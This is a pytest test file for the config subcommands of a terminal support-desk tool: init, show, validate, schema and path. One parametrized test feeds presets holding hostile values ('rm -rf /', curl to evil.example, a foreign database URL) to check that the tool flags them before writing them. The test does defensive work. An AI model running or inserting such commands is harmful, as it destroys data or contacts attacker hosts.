"""``config``: the commented file, what is in force and why, every fault at once, the schema, the places."""

import json
import tomllib
from collections.abc import Mapping

import pytest

from supporttui.bootstrap import reference
from supporttui.cli import config_file
from supporttui.domain.plain import to_plain
from supporttui.settings import KEYS, Settings, load
from tests.i18n import pseudo
from tests.json_schema import errors

FAULTY = """\
langauge = "de"
theme = "solarized"
page_delay = 99
zone = = 3
symbols = "emoji"
[keys]
preset = "lazygi"
ticket.note = "frob"
"ticket.fly" = "x"
[watch]
lease = "long"
pauze = 3
[channels.sms]
kind = "sms"
[channels.mail]
timeout = "x"
[[commands]]
name = "Fine"
argv = ["x", "{ticket}"]
[[commands]]
name = "note"
argv = ["kubectl", "{titel}"]
scop = "ticket"
key = "ctrl+frob"
"""


@pytest.fixture
def config(shell):
    """The person's file; not there yet."""
    path = shell.home / "supporttui" / "config.toml"
    path.parent.mkdir(parents=True)
    return path


# --- init -----------------------------------------------------------------------------------------------


def test_init_writes_every_key_with_its_default_and_its_variable(shell, config):
    assert shell("config", "init", db=False).code == 0
    text = config.read_text("utf-8")
    for entry in reference.entries():
        assert f"{entry.key.rsplit('.', 1)[-1]} = " in text.replace('"', "") or entry.default in ({}, []), entry.key
        assert entry.variable in text or entry.key.startswith("keys."), entry.key
    assert config.stat().st_mode & 0o777 == 0o600


def test_what_keys_mean_and_what_is_allowed_is_written_in_the_readers_words():
    words = pseudo.words("en_XA")
    text = config_file.commented(words, reference.entries(), {})
    assert words.p("kind of value", "text") in text
    assert words.t("Help") in text
    assert "Why?." not in text


def test_the_file_as_it_is_written_changes_nothing(shell, config):
    shell("config", "init", db=False)
    assert load(shell.env).settings == Settings()
    assert shell("config", "validate", db=False).code == 0


def test_the_file_with_every_comment_taken_away_is_sound_too(shell, config):
    shell("config", "init", db=False)
    lines = config.read_text("utf-8").splitlines()
    bare = [line[1:] if line.startswith("#") and not line.startswith("# ") else line for line in lines]
    text = "\n".join(bare).replace("NAME", "pager").replace('"…"', '"word"')
    config.write_text(text, "utf-8")
    assert shell("config", "validate", db=False).out == "Nothing is wrong with it.\n"
    assert errors(reference.schema(), tomllib.loads(text)) == []


def test_init_keeps_the_file_that_is_there_unless_it_is_forced(shell, config):
    config.write_text('me = "ana"\n')
    found = shell("config", "init", db=False)
    assert (found.code, config.read_text()) == (1, 'me = "ana"\n')
    assert str(config) in found.err
    assert shell("config", "init", "--force", db=False).code == 0
    assert "#me = " in config.read_text("utf-8")


def test_a_preset_of_plain_values_is_taken_over_at_once(shell, config, tmp_path):
    preset = tmp_path / f"{'team' * 30}.toml"
    preset.write_text('zone = "Europe/Berlin"\n[keys]\npreset = "k9s"\n"ticket.note" = "N"\n[watch]\nlease = 20\n')
    assert shell("config", "init", "--from", str(preset), db=False).code == 0
    settings = load(shell.env).settings
    assert (settings.zone, settings.watch, settings.keys) == (
        "Europe/Berlin", {"lease": 20}, {"preset": "k9s", "ticket.note": "N"},
    )  # fmt: skip
    assert str(preset) in config.read_text("utf-8")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('[[commands]]\nname = "Wipe"\nargv = ["rm", "-rf", "/"]\n', "rm"),
        ('[channels.mail]\nargv = ["curl", "evil.example"]\n', "evil.example"),
        ('database = "postgresql://elsewhere/desk"\n', "elsewhere"),
        ('editor = "evil"\n', "evil"),
        ('helpdesks = { jira = { url = "https://evil.example/{key}" } }\n', "evil.example"),
    ],
)
def test_a_preset_that_could_start_something_is_shown_and_not_written_where_nobody_can_agree(
    shell, config, tmp_path, text, shown
):
    preset = tmp_path / "team.toml"
    preset.write_text(text)
    found = shell("config", "init", "--from", str(preset), db=False)
    assert (found.code, config.exists()) == (1, False)
    assert shown in found.err
    assert shell("config", "init", "--from", str(preset), "--yes", db=False).code == 0
    assert shown in shell("config", "show", db=False).out


def test_a_faulty_preset_is_refused_with_all_its_faults(shell, config, tmp_path):
    preset = tmp_path / "team.toml"
    preset.write_text('theem = "nord"\nsymbols = "emoji"\n')
    found = shell("config", "init", "--from", str(preset), db=False)
    assert (found.code, config.exists(), len(found.err.splitlines())) == (2, False, 2)


def test_a_preset_is_a_file_and_never_fetched(shell, config):
    assert shell("config", "init", "--from", "https://example.org/x.toml", db=False).code == 2
    assert not config.exists()


# --- show -----------------------------------------------------------------------------------------------


def shown(found) -> Mapping[str, tuple[object, str]]:
    return {row["key"]: (row["value"], row["origin"]) for row in found.json["settings"]}


def test_show_tells_what_set_each_value(shell, config):
    config.write_text('# mine\ntheme = "nord"\n[watch]\nrenew = 3\n')
    found = shown(
        shell("config", "show", "--origin", "--json", "--zone", "UTC", db=False, SUPPORTTUI_WATCH__LEASE="20")
    )
    assert found["theme"] == ("nord", f"{config}:2")
    assert found["watch.renew"] == (3, f"{config}:4")
    assert found["watch.lease"] == (20, "SUPPORTTUI_WATCH__LEASE")
    assert found["zone"] == ("UTC", "--zone")
    assert found["page_delay"] == (8, "default")


def test_show_has_every_key(shell):
    found = shown(shell("config", "show", "--json", db=False))
    assert {key.split(".")[0] for key in found} == set(KEYS)


def test_show_says_where_only_if_it_is_asked(shell, config):
    config.write_text('theme = "nord"\n')
    assert str(config) not in shell("config", "show", db=False).out
    assert f"{config}:1" in shell("config", "show", "--origin", db=False).out


def test_secrets_are_never_shown(shell, config):
    config.write_text(
        """
database = "postgresql://ana:hunter2@db/desk"
[channels.chat]
argv = ["post", "--token", "tok-1", "--password=pw-2", "https://x/?api_key=key-3"]
env = { API_TOKEN = "tok-4", REGION = "eu" }
"""
    )
    for args in (("config", "show", "--origin"), ("config", "show", "--json"), ("doctor",), ("config", "path")):
        found = shell(*args, db=False)
        told = found.out + found.err
        assert not [secret for secret in ("hunter2", "tok-1", "pw-2", "key-3", "tok-4") if secret in told], args
    assert "eu" in shell("config", "show", db=False).out


# --- validate -------------------------------------------------------------------------------------------


def test_validate_tells_every_fault_with_its_line_and_the_nearest_guess(shell, tmp_path):
    path = tmp_path / "faulty.toml"
    path.write_text(FAULTY)
    found = shell("config", "validate", str(path), "--json", db=False)
    assert (found.code, found.json["ok"]) == (2, False)
    told = [(f["line"], f.get("key", ""), f["code"].removeprefix("settings.")) for f in found.json["faults"]]
    assert told == [
        (1, "langauge", "unknown_key"), (2, "theme", "not_allowed"), (3, "page_delay", "not_allowed"),
        (4, "", "not_toml"), (5, "symbols", "not_allowed"), (7, "keys.preset", "not_allowed"),
        (8, "keys.ticket.note", "not_allowed"), (9, "keys.ticket.fly", "unknown_key"),
        (11, "watch.lease", "wrong_type"), (12, "watch.pauze", "unknown_key"),
        (14, "channels.sms.kind", "not_allowed"), (15, "channels.mail.argv", "missing_key"),
        (16, "channels.mail.timeout", "wrong_type"), (21, "commands[1].name", "word_taken"),
        (22, "commands[1].argv[1]", "not_allowed"), (23, "commands[1].scop", "unknown_key"),
        (24, "commands[1].key", "not_allowed"),
    ]  # fmt: skip
    guesses = {f.get("key"): f.get("suggestion") for f in found.json["faults"]}
    assert (guesses["langauge"], guesses["keys.preset"], guesses["commands[1].argv[1]"]) == (
        "language", "lazygit", "{title}",
    )  # fmt: skip
    text = shell("config", "validate", str(path), db=False)
    assert len(text.out.splitlines()) == len(told)
    assert f"{path}:2: theme cannot be solarized" in text.out


def test_validate_without_a_file_looks_at_both_files_and_the_environment(shell, config, tmp_path):
    site = tmp_path / "home" / "none" / "supporttui" / "config.toml"
    site.parent.mkdir(parents=True)
    site.write_text('mouse = "maybe"\n')
    config.write_text('mouse = "sometimes"\n')
    found = shell("config", "validate", "--json", db=False, SUPPORTTUI_PAGE_DELAY="soon", SUPPORTTUI_LANGAUGE="de")
    assert [fault["place"] for fault in found.json["faults"]] == [f"{site}:1", f"{config}:1", "SUPPORTTUI_PAGE_DELAY"]
    assert found.json["strangers"] == ["SUPPORTTUI_LANGAUGE"]


def test_validate_reports_keys_that_clash(shell, config):
    config.write_text('[keys]\n"ticket.take" = "a"\n')
    found = shell("config", "validate", db=False)
    assert (found.code, "ticket.acknowledge, ticket.take" in found.out) == (2, True)


def test_a_file_that_is_not_there_is_said_so(shell):
    found = shell("config", "validate", "/nowhere.toml", db=False)
    assert (found.code, "/nowhere.toml" in found.err) == (2, True)


# --- schema ---------------------------------------------------------------------------------------------


def test_the_schema_names_its_draft_and_allows_the_defaults(shell):
    schema = json.loads(shell("config", "schema", db=False).out)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    defaults = {key: getattr(Settings(), key) for key in KEYS}
    assert errors(schema, json.loads(json.dumps({key: to_plain(value) for key, value in defaults.items()}))) == []


@pytest.mark.parametrize(
    "wrong",
    [
        {"langauge": "de"}, {"page_delay": 31}, {"page_delay": True}, {"symbols": "emoji"}, {"theme": "x"},
        {"keys": {"preset": "x"}}, {"keys": {"ticket": {"fly": "x"}}}, {"watch": {"lease": "long"}},
        {"channels": {"x": {"kind": "sms"}}}, {"channels": {"x": {}}}, {"helpdesks": {"x": {"urll": "y"}}},
        {"commands": [{"name": "x"}]}, {"commands": [{"name": "x", "argv": "y"}]},
        {"commands": [{"name": "x", "argv": ["y"], "timeout": 0}]},
    ],
    ids=str,
)  # fmt: skip
def test_the_schema_refuses_what_validate_refuses(shell, tmp_path, wrong):
    assert errors(reference.schema(), wrong)
    path = tmp_path / "wrong.toml"
    import tomlkit

    path.write_text(tomlkit.dumps(wrong))
    assert shell("config", "validate", str(path), db=False).code == 2


# --- path, keys, the site --------------------------------------------------------------------------------


def test_path_names_every_place(shell, config):
    found = shell("config", "path", "--json").json["paths"]
    assert found["config"] == {"path": str(config), "exists": False}
    assert {"site-config", "database", "state", "log", "drafts", "languages"} <= set(found)


def test_the_exported_key_map_is_read_again_as_it_is(shell, config):
    config.write_text('[keys]\npreset = "mutt"\nlayout = "ru"\n')
    exported = shell("config", "keys", db=False).out
    whole = tomllib.loads(exported)["keys"]
    assert whole["ticket.acknowledge"] == "a,ф"
    config.write_text(exported)
    assert shell("config", "validate", db=False).code == 0
    assert tomllib.loads(shell("config", "keys", db=False).out)["keys"] == whole


def test_what_the_site_forbids_stays_forbidden(shell, config, tmp_path):
    site = tmp_path / "home" / "none" / "supporttui" / "config.toml"
    site.parent.mkdir(parents=True)
    site.write_text("allow_commands = false\n")
    config.write_text("allow_commands = true\n")
    found = shown(shell("config", "show", "--json", db=False, SUPPORTTUI_ALLOW_COMMANDS="true"))
    assert found["allow_commands"] == (False, f"{site}:1")


def test_what_one_person_forbids_is_theirs_to_allow_again(shell, config):
    config.write_text("allow_commands = false\n")
    found = shown(shell("config", "show", "--json", db=False, SUPPORTTUI_ALLOW_COMMANDS="true"))
    assert found["allow_commands"] == (True, "SUPPORTTUI_ALLOW_COMMANDS")


def test_help_says_how_a_key_becomes_a_variable(shell):
    assert "SUPPORTTUI_WATCH__LEASE" in shell("config", "--help", db=False).out
